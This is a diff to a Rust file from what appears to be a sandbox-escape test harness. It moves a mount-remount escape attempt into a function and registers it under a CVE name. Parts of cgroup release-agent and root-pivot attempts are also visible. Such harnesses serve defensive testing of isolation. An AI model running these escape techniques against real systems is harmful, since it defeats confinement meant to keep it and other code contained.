@@ -3,7 +3,7 @@
 use std::fs;
 use std::io;
 
-use pinfold_attack::SHARE;
+use pinfold_attack::{Facts, SHARE};
 
 use super::call::{any, call, call_with, opens_for_writing, text};
 use super::{Attempt, Found};
@@ -18,19 +18,9 @@ const RECURSIVE: usize = 0x4000;
 const HERE: usize = usize::MAX - 99;
 
 pub(super) const ATTEMPTS: &[(&str, Attempt)] = &[
-    ("share-remount", |facts| {
-        if !facts.share {
-            return Found::NotExpressible("nothing is shared".to_owned());
-        }
-        let remounted = mount("none", SHARE, "none", REMOUNT, "");
-        if let Err(error) = remounted {
-            return Found::Failed(error.to_string());
-        }
-        Found::of(
-            fs::write("/attack-share/open/remounted", "x"),
-            "wrote to it",
-        )
-    }),
+    ("share-remount", share_remount),
+    // The same, under the name by which it is known.
+    ("cve-2026-46695", share_remount),
     ("release-agent", |_| {
         let directory = "/tmp/attack-cgroup";
         // A hierarchy of the host's, or a new one; both go with this process's mounts.
@@ -127,6 +117,20 @@ pub(super) const ATTEMPTS: &[(&str, Attempt)] = &[
         Found::of(pivoted, "changed the root")
     }),
 ];
+
+fn share_remount(facts: &Facts) -> Found {
+    if !facts.share {
+        return Found::NotExpressible("nothing is shared".to_owned());
+    }
+    let remounted = mount("none", SHARE, "none", REMOUNT, "");
+    if let Err(error) = remounted {
+        return Found::Failed(error.to_string());
+    }
+    Found::of(
+        fs::write("/attack-share/open/remounted", "x"),
+        "wrote to it",
+    )
+}
 
 impl Found {
     /// Tries something else when this did not work.
